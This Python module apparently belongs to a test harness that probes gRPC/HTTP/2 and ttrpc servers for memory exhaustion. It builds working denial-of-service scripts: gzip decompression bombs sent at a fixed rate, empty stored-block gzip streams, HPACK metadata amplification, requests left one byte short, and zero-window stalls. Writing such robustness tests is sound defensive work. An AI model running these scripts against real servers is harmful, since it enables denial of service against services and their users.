"""Scripts of peers that make a server hold or unpack more than they pay for. All of them respect every
limit that a server announces."""

import gzip
import itertools

from . import ttrpc
from .attacker import Pause, Script, greeting
from .http2 import (
    FRAME_LIMIT, LARGEST_WINDOW, PREFACE, data, fields, headers, literal, message, request, settings,
    window_update)
from .interop import (
    FULL_DUPLEX, STREAMING_OUTPUT, UNARY, simple_request, streaming_request)
from .wire import field

PACKED = ("grpc-encoding", "gzip")
LARGEST = (4 << 20) - 64
"""Bytes of a message that is just taken."""

UNKNOWN_FIELD = 2000
FOREVER = Pause(60)


def bomb(content: bytes = b"") -> bytes:
    """4 KB that unpack to 4 MiB."""
    whole = content + field(UNKNOWN_FIELD, bytes(LARGEST - len(content)))
    return message(gzip.compress(whole), packed=True)


def parts(content: bytes) -> list[bytes]:
    return [content[at:at + FRAME_LIMIT] for at in range(0, len(content), FRAME_LIMIT)]


def sent(stream: int, content: bytes, end: bool = True) -> bytes:
    """DATA frames."""
    frames = parts(content)
    return b"".join(data(stream, part, end=end and part is frames[-1]) for part in frames)


def bombs(path: str = UNARY, rate: float = 8) -> Script:
    """Unary calls of a bomb, so many a second."""
    def script():
        packed, block = bomb(), fields(path, PACKED)
        yield greeting()
        for stream in itertools.count(1, 2):
            yield headers(stream, block) + sent(stream, packed)
            yield Pause(1 / rate)
    return script


def blocked_bombs(path: str = FULL_DUPLEX,
                  first: bytes = message(streaming_request(100_000))) -> Script:
    """A stream whose handler waits for its peer to take what it answers the first messages with, and a
    bomb behind that."""
    def script():
        yield PREFACE + settings(initial_window=0)
        yield headers(1, fields(path, PACKED)) + data(1, first)
        yield Pause(0.5)
        yield sent(1, bomb(), end=False)
        yield FOREVER
    return script


def sleeping_bombs() -> Script:
    """Calls that sleep, and bombs for requests."""
    def script():
        packed = bomb(streaming_request(1, interval=60_000_000))
        yield greeting()
        for stream in range(1, 41, 2):
            yield headers(stream, fields(STREAMING_OUTPUT, PACKED)) + sent(stream, packed)
            yield Pause(0.1)
        yield FOREVER
    return script


def empty_blocks() -> Script:
    """Calls whose message is all stored blocks of nothing."""
    def script():
        header = b"\x1f\x8b\x08\0\0\0\0\0\0\x03"
        nothing = message(header + b"\0\0\0\xff\xff" * 800_000 + b"\x03\0" + bytes(8), packed=True)
        yield greeting()
        for stream in itertools.count(1, 2):
            yield headers(stream, fields(UNARY, PACKED)) + sent(stream, nothing)
            yield Pause(0.05)
    return script


def large_metadata() -> Script:
    """Calls that wait for requests, with 15 KB of metadata each, of a field that is named by its number."""
    def script():
        yield greeting()
        field_once = literal("x-large", "v" * 3600, indexed=True)
        # The last entry of the dynamic table is number 62 (RFC 7541 §2.3.3).
        again = b"\xbe" * 3
        block = fields(FULL_DUPLEX)
        yield headers(1, block + field_once + again)
        yield b"".join(headers(stream, block + b"\xbe" * 4) for stream in range(3, 512, 2))
        yield FOREVER
    return script


def unfinished(count: int, size: int, path: str = UNARY) -> Script:
    """Requests of which all but the last byte is there."""
    def script():
        yield greeting()
        for stream in range(1, 2 * count + 1, 2):
            yield headers(stream, fields(path)) + sent(
                stream, message(bytes(size), length=size + 1), end=False)
        yield FOREVER
    return script


def hoarding_again(count: int, size: int, path: str = UNARY) -> Script:
    """The same, and ten new ones at a time for those that are refused."""
    def script():
        yield greeting()
        for stream in itertools.count(1, 2):
            yield headers(stream, fields(path)) + sent(
                stream, message(bytes(size), length=size + 1), end=False)
            if stream > 2 * count and stream % 20 == 1:
                yield Pause(0.02)
    return script


def answers_not_taken(count: int, size: int) -> Script:
    def script():
        yield PREFACE + settings(initial_window=0)
        yield b"".join(
            request(stream, UNARY, simple_request(size)) for stream in range(1, 2 * count + 1, 2))
        yield FOREVER
    return script


def answers_not_read(count: int, size: int) -> Script:
    """For who does not read: the windows are open."""
    def script():
        yield PREFACE + settings(initial_window=LARGEST_WINDOW)
        yield window_update(0, LARGEST_WINDOW - 65_535)
        yield b"".join(
            request(stream, UNARY, simple_request(size)) for stream in range(1, 2 * count + 1, 2))
        yield FOREVER
    return script


# ttrpc

def frame_never_finished(size: int) -> Script:
    def script():
        whole = ttrpc.request(1, "Echo", ttrpc.echo("x" * size))
        for at in range(0, len(whole) - 1, 1 << 16):
            yield whole[at:min(at + (1 << 16), len(whole) - 1)]
        yield FOREVER
    return script


def sleeping_echoes(count: int, size: int) -> Script:
    def script():
        content = ttrpc.echo("sleep:60000") + field(UNKNOWN_FIELD, bytes(size))
        for stream in range(1, 2 * count + 1, 2):
            yield ttrpc.request(stream, "Echo", content)
        yield FOREVER
    return script


def messages_not_taken(count: int, size: int) -> Script:
    """Streams whose handler sleeps, and messages behind that."""
    def script():
        for stream in range(1, 2 * count + 1, 2):
            yield ttrpc.request(stream, "EchoStream", flags=ttrpc.REMOTE_OPEN)
            yield ttrpc.frame(stream, ttrpc.DATA, 0, ttrpc.echo("sleep:60000"))
            yield ttrpc.frame(stream, ttrpc.DATA, 0, ttrpc.echo("x" * size))
        yield FOREVER
    return script
